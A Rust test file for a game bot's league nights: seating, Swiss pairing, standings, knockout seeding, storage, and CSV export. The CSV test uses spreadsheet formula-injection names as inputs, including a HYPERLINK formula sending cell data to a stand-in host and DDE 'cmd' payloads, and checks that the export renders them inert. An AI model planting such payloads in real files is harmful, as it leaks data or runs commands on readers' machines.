//! Game nights' arithmetic and storage (#35): people split into tables as
//! evenly as possible (leftover seats to computers, or smaller tables), the
//! first round shuffled the same way every time, later rounds Swiss-style
//! by the standings; standings by places or points with their tie-breaks,
//! a cancelled table's people last at it; the CSV; and a night stored and
//! read back on both backends, the open ones found at start-up.

use wizard_bot::league::memory::MemoryLeague;
use wizard_bot::league::night::{TablePlace, knockout_rounds, seat_bounds, snake, tables};
use wizard_bot::league::night_next::{NightNext, TableEnd};
use wizard_bot::league::{Fill, Format, LeagueStore, Night, NightPlan, NightStatus, NightTable, RankBy};
use wizard_bot::store::{GameKind, Store};
use wizard_bot::table::TableOptions;

fn night(players: Vec<i64>, rank_by: RankBy) -> Night {
    let plan = NightPlan {
        kind: GameKind::Wizard,
        options: TableOptions::defaults(GameKind::Wizard),
        starts_at: None,
        rounds: 2,
        per_table: 4,
        rank_by,
        fill: Fill::Computers,
        rated: true,
        format: Default::default(),
    };
    Night {
        id: 7,
        status: NightStatus::Running,
        players,
        ..Night::new(1, 50, 99, "Friday".into(), plan, "en-US".into())
    }
}

/// A finished table of `people` (by seat) with their places and points.
fn table(people: &[Option<i64>], results: &[(u32, i64)]) -> NightTable {
    NightTable {
        seats: people.to_vec(),
        results: results
            .iter()
            .zip(people)
            .map(|(&(place, points), who)| {
                who.map(|_| TablePlace {
                    place,
                    points,
                    unfinished: false,
                })
            })
            .collect(),
        ended: true,
        game: Some(1),
        ..NightTable::default()
    }
}

/// What a night asks its driver, decided from the night as stored (#87):
/// it waits for its start (an hour at most, then looks again), ends for want
/// of anyone, seats its first round, plays it, seats the next by the
/// standings or finishes; an ended table's game noted once, its absent
/// people out of the rounds to come.
#[test]
fn a_night_says_what_comes_next_from_the_night_as_stored() {
    let mut n = night((1..=8).collect(), RankBy::Places);
    n.status = NightStatus::SignUp;
    n.plan.starts_at = Some(10_000_000);
    assert_eq!(n.next(10_000_000 - 90_000), NightNext::Wait { ms: 90_000 });
    assert_eq!(n.next(0), NightNext::Wait { ms: 3_600_000 }, "an hour at most");
    assert_eq!(n.next(10_000_000 - 1), NightNext::Wait { ms: 50 }, "never a busy loop");
    assert_eq!(n.next(10_000_000), NightNext::Begin);
    let mut asked = n.clone();
    asked.plan.starts_at = None;
    assert_eq!(asked.next(0), NightNext::Wait { ms: 3_600_000 });
    asked.start_asked = true;
    assert_eq!(asked.next(0), NightNext::Begin, "the organiser's Start now");
    let mut empty = n.clone();
    empty.players.clear();
    assert_eq!(empty.next(10_000_000), NightNext::NoOne);
    empty.begin(7);
    assert_eq!((empty.status, empty.rounds.len()), (NightStatus::Cancelled, 0));
    assert_eq!(empty.next(10_000_000), NightNext::Cancelled);

    let seating = n.next_tables(7);
    n.begin(7);
    assert_eq!((n.status, n.round()), (NightStatus::Running, 1));
    assert_eq!(n.rounds[0], seating, "seated as `next_tables` seats it");
    assert_eq!(n.next(10_000_000), NightNext::Play);
    assert!(!n.round_over());
    // Table 0 played out, its second seat on autopilot at the end.
    let seats = n.rounds[0][0].seats.clone();
    let own = (0..seats.len())
        .map(|seat| (seat + 1, 100 - 10 * seat as i64, false))
        .collect();
    let ended = TableEnd::Finished {
        autopilot: (0..seats.len()).map(|seat| seat == 1).collect(),
        own: Some(own),
    };
    assert!(n.table_ended(0, ended.clone()));
    assert!(!n.table_ended(0, ended), "noted once");
    let first = &n.rounds[0][0];
    assert!(first.ended);
    assert_eq!(
        first.results[0],
        Some(TablePlace {
            place: 1,
            points: 100,
            unfinished: false
        })
    );
    assert_eq!(
        n.withdrawn,
        seats[1].into_iter().collect::<Vec<_>>(),
        "the no-show is out of the rounds to come"
    );
    assert!(!n.round_over(), "one table still plays");
    assert!(n.table_ended(1, TableEnd::Cancelled));
    assert!(
        n.rounds[0][1].ended && n.rounds[0][1].results.is_empty(),
        "a cancelled game has no results"
    );
    assert!(n.round_over());
    assert!(!n.table_ended(5, TableEnd::Cancelled), "no such table");
    // Two rounds planned: the second seated, then the night finished.
    assert!(n.after_round(7));
    assert_eq!((n.status, n.round()), (NightStatus::Running, 2));
    for t in 0..n.rounds[1].len() {
        n.table_ended(t, TableEnd::Cancelled);
    }
    assert!(!n.after_round(7));
    assert_eq!((n.status, n.round()), (NightStatus::Finished, 2));
    assert_eq!(n.next(10_000_000), NightNext::Finish);
}

#[test]
fn people_sit_as_evenly_as_the_tables_allow() {
    let people: Vec<i64> = (1..=9).collect();
    let t = tables(&people, 4, 3, Fill::Computers);
    assert_eq!(t.len(), 3, "9 people at tables of 4: three tables");
    for seats in &t {
        assert_eq!(seats.len(), 4);
        assert_eq!(
            seats.iter().flatten().count(),
            3,
            "three people and one computer player each"
        );
    }
    let seated: Vec<i64> = t.iter().flatten().flatten().copied().collect();
    assert_eq!(seated, people, "everyone once, in order");
    // 10 at tables of 4: 4, 3, 3 people (the larger first), computers to 4.
    let t = tables(&(1..=10).collect::<Vec<_>>(), 4, 3, Fill::Computers);
    let counts: Vec<usize> = t.iter().map(|s| s.iter().flatten().count()).collect();
    assert_eq!(counts, [4, 3, 3]);
    // Smaller tables: no computer beyond the game's least.
    let t = tables(&(1..=10).collect::<Vec<_>>(), 4, 3, Fill::Smaller);
    assert!(t.iter().all(|s| s.iter().all(Option::is_some)), "{t:?}");
    let t = tables(&[1, 2], 4, 3, Fill::Smaller);
    assert_eq!(t, vec![vec![Some(1), Some(2), None]], "never below the game's least");
    assert!(tables(&[], 4, 3, Fill::Computers).is_empty());
    for players in 1..=40usize {
        for size in 2..=6 {
            let t = tables(&(0..players as i64).collect::<Vec<_>>(), size, 2, Fill::Computers);
            let counts: Vec<usize> = t.iter().map(|s| s.iter().flatten().count()).collect();
            assert_eq!(counts.iter().sum::<usize>(), players);
            assert!(
                counts.iter().max().unwrap() - counts.iter().min().unwrap() <= 1,
                "{counts:?}"
            );
            assert!(t.iter().all(|s| s.len() == size));
        }
    }
    assert_eq!(
        seat_bounds(GameKind::Dice, &TableOptions::defaults(GameKind::Dice)),
        (2, 5)
    );
}

#[test]
fn standings_rank_by_places_or_points_with_their_tie_breaks() {
    // Round 1: 1 beats 2 beats 3 at one table; 4 wins alone at the other
    // (a computer second); 5's table was cancelled.
    let mut n = night(vec![1, 2, 3, 4, 5], RankBy::Places);
    n.rounds = vec![vec![
        table(&[Some(1), Some(2), Some(3)], &[(1, 50), (2, 30), (3, -10)]),
        table(&[Some(4), None, None], &[(1, 20), (2, 0), (3, 0)]),
        NightTable {
            seats: vec![Some(5), None, None],
            ended: true,
            ..NightTable::default()
        },
    ]];
    let order: Vec<i64> = n.standings().iter().map(|s| s.user).collect();
    // Placement points (#54): 1 and 4 beat two seats (+2), 2 is +1 −1 (0),
    // 3 and 5 last of three (−2). The field breaks the ties: 4 met no one
    // (0) and 1 met 2 and 3 (mean −1), so 4 first; 3 met 1 and 2 (mean +1)
    // and 5 no one (0), so 3 before 5.
    assert_eq!(order, [4, 1, 2, 3, 5]);
    let s = n.standings();
    let of = |u: i64| s.iter().find(|x| x.user == u).unwrap();
    assert_eq!(
        [1, 2, 3, 4, 5].map(|u| (of(u).score, of(u).field)),
        [(2, -1.0), (0, 0.0), (-2, 1.0), (2, 0.0), (-2, 0.0)]
    );
    assert_eq!(
        (of(5).places, of(5).points, of(5).games, of(5).score),
        (3, 0, 1, -2),
        "last at a cancelled table"
    );
    // Third of three and third of four are not the same result.
    assert_eq!(wizard_bot::league::night::placement_points(&[1, 2, 3]), [2, 0, -2]);
    assert_eq!(
        wizard_bot::league::night::placement_points(&[1, 2, 3, 4]),
        [3, 1, -1, -3]
    );
    assert_eq!(
        wizard_bot::league::night::placement_points(&[1, 1, 3]),
        [1, 1, -2],
        "a tie: 0 between them"
    );
    n.plan.rank_by = RankBy::Points;
    let order: Vec<i64> = n.standings().iter().map(|s| s.user).collect();
    assert_eq!(order, [1, 2, 4, 5, 3]);
    // Equal in everything: the earlier sign-up first.
    let mut n = night(vec![8, 6], RankBy::Places);
    n.rounds = vec![vec![
        table(&[Some(6), None], &[(1, 10), (2, 0)]),
        table(&[Some(8), None], &[(1, 10), (2, 0)]),
    ]];
    assert_eq!(n.standings().iter().map(|s| s.user).collect::<Vec<_>>(), [8, 6]);
    // More wins breaks a tie on places and points.
    let mut n = night(vec![1, 2], RankBy::Places);
    n.rounds = vec![
        vec![table(&[Some(1), Some(2)], &[(1, 10), (2, 5)])],
        vec![table(&[Some(2), Some(1)], &[(1, 10), (2, 5)])],
        vec![table(&[Some(2), None, Some(1)], &[(3, 0), (1, 0), (2, 0)])],
    ];
    let s = n.standings();
    assert_eq!((s[0].places, s[1].places), (5, 6));
    assert_eq!(s[0].user, 1);
}

#[test]
fn the_first_round_is_shuffled_the_same_way_and_later_ones_follow_the_standings() {
    let mut n = night((1..=9).collect(), RankBy::Places);
    let first = n.next_tables(7);
    assert_eq!(first, n.next_tables(7), "the same night seats the same");
    let seated: Vec<i64> = first.iter().flat_map(|t| t.seats.iter().flatten().copied()).collect();
    let mut sorted = seated.clone();
    sorted.sort();
    assert_eq!(sorted, (1..=9).collect::<Vec<_>>());
    // Everyone plays; the standings decide the next tables: leaders together.
    n.rounds = vec![
        first
            .iter()
            .map(|t| {
                let people: Vec<i64> = t.seats.iter().flatten().copied().collect();
                let results: Vec<(u32, i64)> = t
                    .seats
                    .iter()
                    .map(|who| match who {
                        // A person's place and points follow their number.
                        Some(u) => (people.iter().filter(|&&p| p < *u).count() as u32 + 1, 100 - *u * 10),
                        None => (4, 0),
                    })
                    .collect();
                table(&t.seats, &results)
            })
            .collect(),
    ];
    let expected: Vec<i64> = n.standings().iter().map(|s| s.user).collect();
    let second = n.next_tables(7);
    let order: Vec<i64> = second.iter().flat_map(|t| t.seats.iter().flatten().copied()).collect();
    assert_eq!(order, expected, "Swiss: tables filled in standings order");
    assert_eq!(second.len(), 3);
    // Display names people chose to attack whoever opens the file (#61):
    // each opens as the text it is, never as a formula.
    let hostile = [
        "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
        "+1+cmd|' /C calc'!A0",
        "-2+3+cmd|' /C calc'!A0",
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "\t=1+1",
    ];
    let named = |u: i64| match n.players.iter().position(|&p| p == u) {
        Some(0) => Some("Ann, \"the\" first".to_string()),
        Some(i) => hostile.get(i - 1).map(|h| h.to_string()),
        None => None,
    };
    let csv = n.csv(named);
    assert!(csv.starts_with("round,table,game,name,user,place,points\n"), "{csv}");
    assert!(
        csv.contains(
            "\nrank,name,user,placement_points,field,points,places,wins,games,byes,knockout_rounds,withdrawn\n"
        ),
        "{csv}"
    );
    assert_eq!(
        csv.lines().filter(|l| l.starts_with("1,")).count(),
        9 + 1,
        "nine games and the leader"
    );
    // A name is quoted as CSV quotes it; an id is kept as its digits (#50).
    let first = n.players[0];
    assert!(
        csv.contains(&format!("\"Ann, \"\"the\"\" first\",\"=\"\"{first}\"\"\"")),
        "{csv}"
    );
    // Every cell read back as a spreadsheet reads it: a name is the name
    // behind a `'` where it would start a formula; the only formula is our
    // own id's `="digits"`.
    let mut names_seen = 0;
    for line in csv.lines().skip(1).filter(|l| !l.is_empty() && !l.starts_with("rank,")) {
        let cells = csv_cells(line);
        assert!(cells.len() >= 7, "{line}");
        let name = if line.starts_with(|c: char| c.is_ascii_digit()) && cells.len() == 7 {
            &cells[3]
        } else {
            &cells[1]
        };
        for cell in &cells {
            let formula = cell.starts_with(['=', '+', '@', '\t', '\r'])
                || (cell.starts_with('-') && cell.parse::<f64>().is_err());
            let own_id = cell.starts_with("=\"") && cell[2..].trim_end_matches('"').chars().all(|c| c.is_ascii_digit());
            assert!(!formula || own_id, "a cell a spreadsheet would run: {cell:?} in {line}");
        }
        if let Some(h) = hostile.iter().find(|h| name.as_str() == format!("'{h}")) {
            names_seen += 1;
            assert!(name.ends_with(h));
        }
    }
    assert!(names_seen >= hostile.len(), "every hostile name written, inert:\n{csv}");
}

/// The cells of one CSV line, unquoted as RFC 4180 reads them.
fn csv_cells(line: &str) -> Vec<String> {
    let mut cells = vec![String::new()];
    let mut quoted = false;
    let mut chars = line.chars().peekable();
    while let Some(c) = chars.next() {
        match (c, quoted) {
            ('"', true) if chars.peek() == Some(&'"') => {
                chars.next();
                cells.last_mut().unwrap().push('"');
            }
            ('"', _) => quoted = !quoted,
            (',', false) => cells.push(String::new()),
            (c, _) => cells.last_mut().unwrap().push(c),
        }
    }
    cells
}

async fn stores_and_reads_back(league: &impl LeagueStore) {
    let mut n = night(vec![3, 1, 2], RankBy::Points);
    n.status = NightStatus::SignUp;
    let id = league.create_night(&n).await.unwrap();
    n.id = id;
    assert_eq!(league.night(id).await.unwrap(), Some(n.clone()));
    let other = league.create_night(&n).await.unwrap();
    assert_ne!(other, id);
    n.status = NightStatus::Running;
    n.rounds = vec![n.next_tables(1)];
    league.save_night(&n).await.unwrap();
    assert_eq!(league.night(id).await.unwrap(), Some(n.clone()));
    let mut finished = league.night(other).await.unwrap().unwrap();
    finished.status = NightStatus::Finished;
    league.save_night(&finished).await.unwrap();
    let open: Vec<i64> = league.open_nights().await.unwrap().iter().map(|n| n.id).collect();
    assert_eq!(open, [id, other], "a finished night whose end was not told is resumed");
    finished.told_end = true;
    league.save_night(&finished).await.unwrap();
    let open: Vec<i64> = league.open_nights().await.unwrap().iter().map(|n| n.id).collect();
    assert_eq!(open, [id], "finished nights are not resumed");
    assert_eq!(league.night(9999).await.unwrap(), None);
}

#[tokio::test]
async fn a_night_is_kept_in_memory_as_in_the_store() {
    stores_and_reads_back(&MemoryLeague::new()).await;
}

on_both_backends! {
    #[tokio::test]
    async fn a_night_is_stored_and_the_open_ones_are_found(db) {
        let store = Store::open(&db.url).await.unwrap();
        stores_and_reads_back(&store).await;
    }
}

/// Seats one round of `n`: today's Swiss order alone (`apart` false, as
/// before #54) or apart from earlier meetings.
fn seat_round(n: &Night, seed: u64, apart: bool) -> Vec<NightTable> {
    if apart || n.rounds.is_empty() {
        return n.next_tables(seed);
    }
    let order: Vec<i64> = n.standings().iter().map(|s| s.user).collect();
    let (min, _) = seat_bounds(n.plan.kind, &n.plan.options);
    tables(&order, n.plan.per_table, min, n.plan.fill)
        .into_iter()
        .map(|seats| NightTable {
            seats,
            ..NightTable::default()
        })
        .collect()
}

/// Plays a night of `rounds` with random places at every table (from
/// `seed`), checking each round is valid; (people seated beside someone
/// they had met, people seated) over its rounds after the first.
fn simulated(mut n: Night, rounds: usize, seed: u64, apart: bool) -> (u64, u64) {
    use rand::SeedableRng;
    use rand::seq::SliceRandom;
    let mut rng = rand::rngs::SmallRng::seed_from_u64(seed);
    let (mut again, mut seated) = (0, 0);
    for round in 0..rounds {
        let tables = seat_round(&n, seed, apart);
        // Valid: everyone seated once, tables within one of each other in size.
        let mut people: Vec<i64> = tables.iter().flat_map(|t| t.seats.iter().flatten().copied()).collect();
        people.sort_unstable();
        let mut all = n.players.clone();
        all.sort_unstable();
        assert_eq!(people, all, "round {round}: everyone seated once");
        let sizes: Vec<usize> = tables.iter().map(|t| t.seats.iter().flatten().count()).collect();
        assert!(
            sizes.iter().max().unwrap() - sizes.iter().min().unwrap() <= 1,
            "{sizes:?}"
        );
        if round > 0 {
            let met = wizard_bot::league::night::meetings(&n.rounds);
            for t in &tables {
                let here: Vec<i64> = t.seats.iter().flatten().copied().collect();
                for &a in &here {
                    seated += 1;
                    again += u64::from(here.iter().any(|&b| b != a && met.contains_key(&(a.min(b), a.max(b)))));
                }
            }
        }
        let played: Vec<NightTable> = tables
            .iter()
            .map(|t| {
                let mut places: Vec<u32> = (1..=t.seats.len() as u32).collect();
                places.shuffle(&mut rng);
                let results: Vec<(u32, i64)> = places.iter().map(|&p| (p, 100 - 20 * i64::from(p))).collect();
                table(&t.seats, &results)
            })
            .collect();
        n.rounds.push(played);
    }
    (again, seated)
}

/// #54's done-when: 10,000 random nights (5–40 people, tables of 3–6, 2–5
/// rounds, either fill), each valid, seated today's way and apart: the
/// share of people who sit again beside someone they met is at least halved.
#[test]
fn ten_thousand_nights_seat_people_beside_those_they_met_at_most_half_as_often() {
    use rand::{RngExt, SeedableRng};
    let mut rng = rand::rngs::SmallRng::seed_from_u64(54);
    let (mut before, mut after, mut seated_before, mut seated_after) = (0, 0, 0, 0);
    for i in 0..10_000u64 {
        let people = rng.random_range(5..=40i64);
        let mut n = night((1..=people).collect(), RankBy::Places);
        n.plan.per_table = rng.random_range(3..=6);
        n.plan.fill = if rng.random_bool(0.5) {
            Fill::Computers
        } else {
            Fill::Smaller
        };
        let rounds = rng.random_range(2..=5);
        let (a, s) = simulated(n.clone(), rounds, i, false);
        before += a;
        seated_before += s;
        let (a, s) = simulated(n, rounds, i, true);
        after += a;
        seated_after += s;
    }
    let share = |a: u64, s: u64| 100.0 * a as f64 / s as f64;
    println!(
        "people seated beside someone they met: {:.1} % today's way, {:.1} % apart ({before} → {after} of {seated_before})",
        share(before, seated_before),
        share(after, seated_after)
    );
    assert!(after * 2 <= before, "{after} is not half of {before}");
}

/// Each table of `n`'s current round ended with its people placed in seat
/// order (the first seated wins), a computer seat last, points 10 × (size − place).
fn end_round_in_seat_order(n: &mut Night) {
    for t in n.rounds.last_mut().unwrap() {
        let size = t.seats.len() as u32;
        let mut place = 0;
        t.results = t
            .seats
            .iter()
            .map(|who| {
                who.map(|_| {
                    place += 1;
                    TablePlace {
                        place,
                        points: 10 * i64::from(size - place),
                        unfinished: false,
                    }
                })
            })
            .collect();
        t.ended = true;
        t.game = Some(1);
    }
}

#[test]
fn a_late_joiner_enters_with_byes_and_a_withdrawn_person_is_seated_again_only_once_back() {
    let mut n = night(vec![1, 2, 3, 4, 5, 6], RankBy::Places);
    n.plan.rounds = 3;
    n.plan.per_table = 3;
    n.rounds.push(n.next_tables(1));
    // During round 1 of 3: no more than half begun, so 7 may join; 2 withdraws.
    assert!(n.open_to_join());
    assert!(n.join(7));
    assert!(!n.join(7), "once");
    assert_eq!(n.first_round(7), 1);
    assert!(n.leave(2));
    assert!(!n.leave(2), "once");
    end_round_in_seat_order(&mut n);
    // The bye: 0 placement points and the round's mean points (people's only).
    let people_points: Vec<i64> = n.rounds[0]
        .iter()
        .flat_map(|t| t.results.iter().flatten().map(|p| p.points))
        .collect();
    let mean = (people_points.iter().sum::<i64>() as f64 / people_points.len() as f64).round() as i64;
    let s = n.standings();
    let seven = s.iter().find(|x| x.user == 7).unwrap();
    assert_eq!((seven.score, seven.points, seven.games, seven.byes), (0, mean, 0, 1));
    assert!(s.iter().find(|x| x.user == 2).unwrap().withdrawn);
    // Round 2 seats 7 and not 2.
    n.rounds.push(n.next_tables(1));
    let seated: Vec<i64> = n.rounds[1]
        .iter()
        .flat_map(|t| t.seats.iter().flatten().copied())
        .collect();
    assert!(seated.contains(&7) && !seated.contains(&2), "{seated:?}");
    assert_eq!(seated.len(), 6);
    // Past half the rounds: no one new; 2 comes back before round 3 is seated.
    assert!(!n.open_to_join());
    assert!(!n.join(8));
    assert!(n.join(2), "a returner");
    end_round_in_seat_order(&mut n);
    n.rounds.push(n.next_tables(1));
    let seated: Vec<i64> = n.rounds[2]
        .iter()
        .flat_map(|t| t.seats.iter().flatten().copied())
        .collect();
    assert_eq!(seated.len(), 7);
    assert!(seated.contains(&2));
    assert!(!n.more_rounds(), "three rounds planned");
}

#[test]
fn a_championship_of_thirteen_at_tables_of_four_sends_each_tables_winner_on_to_one_final() {
    let mut n = night((1..=13).collect(), RankBy::Places);
    n.plan.format = Format::Championship;
    n.plan.rounds = 2;
    assert_eq!(knockout_rounds(13, 4), 2, "13 → 4 tables → a final of 4");
    assert_eq!(n.rounds_planned(), 4);
    for _ in 0..2 {
        assert!(n.more_rounds());
        n.rounds.push(n.next_tables(3));
        assert!(!n.knockout(n.round() - 1));
        end_round_in_seat_order(&mut n);
    }
    let qualifying: Vec<i64> = n.standings().iter().map(|s| s.user).collect();
    // Knock-out round 1: all 13, snake-seeded by the qualifying standings.
    assert!(n.more_rounds());
    n.rounds.push(n.next_tables(3));
    assert!(n.knockout(2));
    let ko: Vec<Vec<i64>> = n.rounds[2]
        .iter()
        .map(|t| t.seats.iter().flatten().copied().collect())
        .collect();
    let seeds = |t: &Vec<i64>| -> Vec<usize> {
        t.iter()
            .map(|u| qualifying.iter().position(|q| q == u).unwrap() + 1)
            .collect()
    };
    assert_eq!(ko.iter().map(Vec::len).collect::<Vec<_>>(), [4, 3, 3, 3]);
    assert_eq!(seeds(&ko[0]), [1, 8, 9, 13], "a snake: the best with the weakest");
    assert_eq!(seeds(&ko[1]), [2, 7, 10]);
    end_round_in_seat_order(&mut n);
    // The final: each table's first seat won it.
    assert!(n.more_rounds());
    n.rounds.push(n.next_tables(3));
    assert_eq!(n.rounds[3].len(), 1, "one final table");
    let finalists: Vec<i64> = n.rounds[3][0].seats.iter().flatten().copied().collect();
    assert_eq!(finalists, ko.iter().map(|t| t[0]).collect::<Vec<_>>());
    end_round_in_seat_order(&mut n);
    assert!(!n.more_rounds(), "the final was the last round");
    let s = n.standings();
    // Champion: the final's winner; then the final's places; then those out
    // in knock-out round 1, by their place there, then by qualifying.
    assert_eq!(s[0].user, finalists[0]);
    assert_eq!(s.iter().take(4).map(|x| x.user).collect::<Vec<_>>(), finalists);
    assert!(s.iter().take(4).all(|x| x.stage == 2));
    assert!(s.iter().skip(4).all(|x| x.stage == 1));
    // A winner who withdrew does not go on: the next best-placed does.
    let mut m = n.clone();
    m.rounds.truncate(3);
    m.withdrawn.push(ko[1][0]);
    let next: Vec<i64> = m.next_tables(3)[0].seats.iter().flatten().copied().collect();
    assert!(next.contains(&ko[1][1]) && !next.contains(&ko[1][0]), "{next:?}");
}

#[test]
fn snake_seeding_spreads_the_strongest() {
    assert_eq!(snake(&[1, 2, 3, 4, 5, 6, 7, 8], 4), [1, 4, 5, 8, 2, 3, 6, 7]);
    let t = tables(&snake(&(1..=13).collect::<Vec<_>>(), 4), 4, 3, Fill::Computers);
    let people: Vec<Vec<i64>> = t.iter().map(|s| s.iter().flatten().copied().collect()).collect();
    assert_eq!(
        people,
        [vec![1, 8, 9, 13], vec![2, 7, 10], vec![3, 6, 11], vec![4, 5, 12]]
    );
    assert_eq!(knockout_rounds(4, 4), 1);
    assert_eq!(knockout_rounds(5, 4), 2);
    assert_eq!(knockout_rounds(40, 4), 3);
}
